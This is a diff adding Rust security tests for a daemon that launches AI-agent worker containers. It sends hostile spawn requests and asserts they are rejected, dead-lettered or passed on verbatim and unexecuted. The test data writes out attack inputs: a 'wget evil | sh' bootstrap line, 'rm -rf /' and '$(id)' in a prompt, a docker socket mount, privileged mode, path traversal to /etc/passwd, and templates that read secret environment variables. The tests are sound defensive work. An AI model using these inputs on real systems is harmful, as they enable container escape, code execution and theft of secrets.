+            "cpu up",
+            "shell_v1",
+            json!({"limits": {"cpu": 64}}),
+            "x",
+            "limits.cpu",
+        ),
+        (
+            "pids up",
+            "shell_v1",
+            json!({"limits": {"pids": 4096}}),
+            "x",
+            "limits.pids",
+        ),
+        (
+            "timeout up",
+            "shell_v1",
+            json!({"limits": {"timeout_sec": 86400}}),
+            "x",
+            "limits.timeout_sec",
+        ),
+        (
+            "ttl up",
+            "shell_v1",
+            json!({"limits": {"ttl_sec": 86400}}),
+            "x",
+            "limits.ttl_sec",
+        ),
+        (
+            "privileged",
+            "shell_v1",
+            json!({"privileged": true}),
+            "x",
+            "privileged",
+        ),
+        (
+            "host network",
+            "shell_v1",
+            json!({"network": "host"}),
+            "x",
+            "network",
+        ),
+        (
+            "docker socket",
+            "shell_v1",
+            json!({"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}),
+            "x",
+            "volumes",
+        ),
+        (
+            "image outside allowlist",
+            "shell_v1",
+            json!({"image": "evil.example/x:1"}),
+            "x",
+            "image",
+        ),
+        (
+            "bad image reference",
+            "shell_v1",
+            json!({"image": "../../x"}),
+            "x",
+            "image",
+        ),
+        (
+            "reserved env",
+            "shell_v1",
+            json!({"env": {"ORCHESTRATOR_ALLOWED_TOOLS": "admin"}}),
+            "x",
+            "env.ORCHESTRATOR_ALLOWED_TOOLS",
+        ),
+        (
+            "reserved env lowercase",
+            "shell_v1",
+            json!({"env": {"orchestrator_api_url": "http://x"}}),
+            "x",
+            "env.orchestrator_api_url",
+        ),
+        (
+            "from_env of the daemon",
+            "shell_v1",
+            json!({"env": {"X": {"from_env": "WS_TEST_REDIS_URL"}}}),
+            "x",
+            "env.X",
+        ),
+        (
+            "agent command",
+            "shell_v1",
+            json!({"agent": {"command": ["sh", "-c", "id; {prompt}"]}}),
+            "x",
+            "agent",
+        ),
+        (
+            "tool outside preset",
+            "shell_v1",
+            json!({"allowed_tools": ["infra"]}),
+            "x",
+            "allowed_tools",
+        ),
+        (
+            "bootstrap",
+            "shell_v1",
+            json!({"bootstrap_commands": ["wget evil | sh"]}),
+            "x",
+            "bootstrap_commands",
+        ),
+        (
+            "template in name",
+            "shell_v1",
+            json!({"name": "{{ get_env(name='WS_TEST_SECRET') }}"}),
+            "x",
+            "name",
+        ),
+        (
+            "template in description",
+            "shell_v1",
+            json!({"description": "{% include '/etc/passwd' %}"}),
+            "x",
+            "description",
+        ),
+        (
+            "deep override",
+            "shell_v1",
+            deep,
+            "x",
+            "worker_config_override",
+        ),
+        (
+            "huge override",
+            "shell_v1",
+            json!({"env": many_env}),
+            "x",
+            "worker_config_override",
+        ),
+        ("huge prompt", "shell_v1", Value::Null, &big, "task.prompt"),
+        (
+            "NUL in prompt",
+            "shell_v1",
+            Value::Null,
+            "echo a\u{0}b",
+            "task.prompt",
+        ),
+        (
+            "preset path traversal",
+            "../../etc/passwd",
+            Value::Null,
+            "x",
+            "worker_config_id",
+        ),
+    ];
+    let mut rids = Vec::new();
+    for (label, preset, ovr, prompt, field) in &cases {
+        let rid = unique_request_id("hostile");
+        let mut req = shell_request(&rid, preset, prompt);
+        if !ovr.is_null() {
+            req["worker_config_override"] = ovr.clone();
+        }
+        publish_spawn(&d.prefix, &req).await;
+        rids.push((rid, *label, *field));
+    }
+    // Ids and names outside their character set.
+    let sid_rid = unique_request_id("hostile");
+    publish_spawn(
+        &d.prefix,
+        &json!({"request_id": sid_rid, "worker_config_id": "shell_v1", "task": {"prompt": "x", "session_id": "../../x"}}),
+    )
+    .await;
+    rids.push((sid_rid, "session id traversal", "task.session_id"));
+    let uid_rid = unique_request_id("hostile");
+    publish_spawn(
+        &d.prefix,
+        &json!({"request_id": uid_rid, "worker_config_id": "shell_v1", "task": {"prompt": "x", "user_id": "a/b"}}),
+    )
+    .await;
+    rids.push((uid_rid, "user id with slash", "task.user_id"));
+    let inline_rid = unique_request_id("hostile");
+    publish_spawn(
+        &d.prefix,
+        &json!({"request_id": inline_rid, "worker_config_override": {"id": "x", "image": "ws-test-busybox:latest"}, "task": {"prompt": "x"}}),
+    )
+    .await;
+    rids.push((inline_rid, "inline config", "worker_config_id"));
+    let extra_rid = unique_request_id("hostile");
+    publish_spawn(
+        &d.prefix,
+        &json!({"request_id": extra_rid, "worker_config_id": "shell_v1", "privileged": true, "task": {"prompt": "x"}}),
+    )
+    .await;
+    rids.push((extra_rid, "unknown top-level field", "privileged"));
+
+    for (rid, label, field) in &rids {
+        let r = wait_result(&d.prefix, rid, RESULT_TIMEOUT).await;
+        assert_eq!(r["status"], "rejected", "{label}: {r:#}");
+        let got = r["error"]["field"].as_str().unwrap_or_default();
+        assert!(
+            got == *field || got.starts_with(&format!("{field}.")),
+            "{label}: field {got:?}, want {field:?}: {r:#}"
+        );
+        assert!(
+            !r["error"]["message"]
+                .as_str()
+                .unwrap_or_default()
+                .is_empty(),
+            "{label}"
+        );
+    }
+
+    // Entries with no usable request id go to the dead letters.
+    let before = dead_letters(&d.prefix).await.len();
+    publish_raw(
+        &d.prefix,
+        b"{\"request_id\":\"../../etc\",\"task\":{\"prompt\":\"x\"}}",
+    )
+    .await;
+    publish_raw(&d.prefix, b"\xff\xfe{\"request_id\":\"r\"}").await;
+    publish_raw(&d.prefix, &vec![b' '; 2 * 1024 * 1024]).await;
+    publish_raw(&d.prefix, "[".repeat(100_000).as_bytes()).await;
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while dead_letters(&d.prefix).await.len() < before + 4 {
+        assert!(
+            Instant::now() < deadline,
+            "{:#?}",
+            dead_letters(&d.prefix).await
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    let dead = dead_letters(&d.prefix).await;
+    let reasons: Vec<&str> = dead.iter().filter_map(|v| v["reason"].as_str()).collect();
+    for want in ["request_id", "UTF-8", "limit", "JSON"] {
+        assert!(
+            reasons.iter().any(|r| r.contains(want)),
+            "no dead letter mentions {want}: {reasons:#?}"
+        );
+    }
+    // Nothing ran, and the daemon still serves.
+    assert_eq!(container_count(&d.prefix).await, 0);
+    let ok = unique_request_id("alive");
+    publish_spawn(&d.prefix, &shell_request(&ok, "shell_v1", "echo alive")).await;
+    let r = wait_result(&d.prefix, &ok, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "succeeded", "{r:#}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn template_and_shell_syntax_in_a_prompt_reach_the_agent_verbatim() {
+    let d = Daemon::start(DaemonOpts::new("sec-verbatim"));
+    let prompt = "{{ get_env(name=\"WS_TEST_SECRET\") }} {% for x in [1,2] %}{{x}}{% endfor %} {prompt} $(id) `id` ${HOME}; rm -rf / && echo pwned | ../../etc";
+    let rid = unique_request_id("verbatim");
+    publish_spawn(&d.prefix, &spawn_request(&rid, "echo_v1", prompt)).await;
+    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "succeeded", "{r:#}");
+    let out = r["output"].as_str().unwrap();
+    assert!(
+        out.lines().any(|l| l == format!("prompt={prompt}")),
+        "the prompt was altered:\n{out}"
+    );
+    assert!(!out.contains("uid="), "{out}");
+}
+
+// ---------------------------------------------------------------- properties
+
+fn repo_path(p: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join(p)
+}
+
+fn schema() -> &'static ConfigSchema {
+    static SCHEMA: OnceLock<ConfigSchema> = OnceLock::new();
+    SCHEMA.get_or_init(ConfigSchema::new)
+}
+
+fn catalog() -> &'static Catalog {
+    static CATALOG: OnceLock<Catalog> = OnceLock::new();
+    CATALOG.get_or_init(|| {
+        let dirs = CatalogDirs {
+            presets: repo_path("presets"),
+            skills: repo_path("skills"),
+            templates: repo_path("templates"),
+        };
+        let (catalog, issues) = loader::load(&dirs, schema(), None);
+        assert!(issues.is_empty(), "{issues:?}");
+        catalog
+    })
+}
+
+/// Any JSON, with keys and strings drawn from the request's vocabulary.
+fn arb_value() -> impl Strategy<Value = Value> {
+    let word = prop::sample::select(vec![
+        "request_id",
+        "worker_config_id",
+        "worker_config_override",
+        "task",
+        "prompt",
+        "session_id",
+        "user_id",
+        "dry_run",
+        "po_claude_v1",
+        "developer_codex_v1",
+        "limits",
+        "memory",
+        "cpu",
+        "image",
+        "env",
+        "from_env",
+        "security",
+        "cap_add",
+        "allowed_tools",
+        "admin",
+        "../x",
+        "{{x}}",
+        "a\u{0}b",
+        "r1",
+        "",
+    ])
+    .prop_map(String::from);
+    let leaf = prop_oneof![
+        Just(Value::Null),
+        any::<bool>().prop_map(Value::from),
+        any::<i64>().prop_map(Value::from),
+        any::<f64>()
+            .prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number)),
+        word.clone().prop_map(Value::from),
+        ".{0,40}".prop_map(Value::from),
+    ];
+    leaf.prop_recursive(6, 64, 6, move |inner| {
+        prop_oneof![
+            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
+            prop::collection::btree_map(word.clone(), inner, 0..6)
+                .prop_map(|m| Value::Object(m.into_iter().collect())),
+        ]
+    })
+}
+
+proptest! {
+    // Bounded for CI: a few thousand cases, well under a minute.
+    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]
+
+    /// Arbitrary bytes never panic the parser; what it accepts is well formed.
+    #[test]
+    fn parsing_arbitrary_bytes_never_panics(data in prop::collection::vec(any::<u8>(), 0..4096)) {
+        if let Ok(r) = parse_spawn_request(&data, &InputLimits::default()) {
+            prop_assert!(!r.request_id.is_empty() && r.request_id.len() <= 128);
+            prop_assert!(!r.task.prompt.contains('\0'));
+        }
+    }
+
+    /// Byte-level mutations of a valid request never panic the parser, and
+    /// whatever still parses respects the input rules.
+    #[test]
+    fn mutated_requests_never_panic_and_stay_well_formed(
+        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..8),
+    ) {
+        let mut data = json!({
+            "request_id": "req_1", "worker_config_id": "po_claude_v1",
+            "worker_config_override": {"limits": {"timeout_sec": 30}, "env": {"A": "b"}},
+            "task": {"prompt": "do it", "session_id": "s1", "user_id": "u1"}, "dry_run": false
+        }).to_string().into_bytes();
+        for (at, byte, op) in edits {
+            let i = at.index(data.len().max(1));
+            match op {
+                0 if i < data.len() => data[i] = byte,
+                1 => data.insert(i.min(data.len()), byte),
+                _ if i < data.len() => { data.remove(i); }
+                _ => {}
+            }
+        }
+        if let Ok(r) = parse_spawn_request(&data, &InputLimits::default()) {
+            let ok = |s: &str| s.chars().all(|c| c.is_ascii_alphanumeric() || "._:-".contains(c));
+            prop_assert!(ok(&r.request_id));
+            prop_assert!(r.task.session_id.as_deref().is_none_or(ok));
+            prop_assert!(r.task.user_id.as_deref().is_none_or(ok));
+            prop_assert!(!r.task.prompt.contains('\0') && !r.task.prompt.trim().is_empty());
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+    /// Whole random payloads through parse, merge, policy and render: no
+    /// panic, and nothing accepted widens its preset.
+    #[test]
+    fn random_payloads_through_the_whole_resolution_never_panic_or_widen(
+        v in arb_value(),
+        preset in prop::sample::select(vec!["po_claude_v1", "developer_codex_v1"]),
+        patch in arb_value(),
+    ) {
+        // Half the time a well-formed envelope around random parts.
+        let payloads = [
+            v.to_string(),
+            json!({
+                "request_id": "r1", "worker_config_id": preset,
+                "worker_config_override": patch, "task": {"prompt": "p"},
+            }).to_string(),
+        ];
+        let limits = InputLimits::default();
+        let policy = Settings::default().policy;
+        let env = |k: &str| Some(format!("secret-{k}"));
+        for data in payloads {
+            let Ok(req) = parse_spawn_request(data.as_bytes(), &limits) else { continue };
+            let resolver = Resolver { catalog: catalog(), schema: schema(), policy: &policy, limits: &limits, env: &env };
+            let Ok(spec) = resolver.resolve(&req) else { continue };
+            let Some(base) = req.worker_config_id.as_ref().and_then(|id| catalog().presets.get(id)) else {
+                prop_assert!(false, "an inline config was accepted by the default policy");
+                continue;
+            };
+            let (b, c) = (&base.config, &spec.config);
+            prop_assert!(c.allowed_tools.iter().all(|t| b.allowed_tools.contains(t)));
+            prop_assert!(c.limits.cpu <= b.limits.cpu);
+            prop_assert!(c.limits.memory_bytes().unwrap() <= b.limits.memory_bytes().unwrap());
+            prop_assert!(c.limits.timeout_sec <= b.limits.timeout_sec);
+            prop_assert!(c.limits.ttl_sec <= b.limits.ttl_sec);
+            prop_assert!(c.limits.pids() <= b.limits.pids());
+            prop_assert!(!c.has_internet || b.has_internet);
+            prop_assert!(c.security.cap_add.iter().all(|x| b.security.cap_add.contains(x)));
+            prop_assert!(c.security.read_only_root >= b.security.read_only_root);
+            prop_assert!(
+                image_ref::normalize(&c.image) == image_ref::normalize(&b.image)
+                    || image_ref::is_allowed(&c.image, &policy.allowed_images)
+            );
+            prop_assert_eq!(&c.agent, &b.agent);
+            prop_assert_eq!(&c.network, &b.network);
+            for f in spec.files.iter().chain(&spec.request_files) {
+                prop_assert!(f.path.starts_with("/workspace/") || f.path.starts_with("/home/worker/"), "{}", f.path);
+                prop_assert!(!f.path.contains(".."), "{}", f.path);
+            }
+        }
+    }
+}
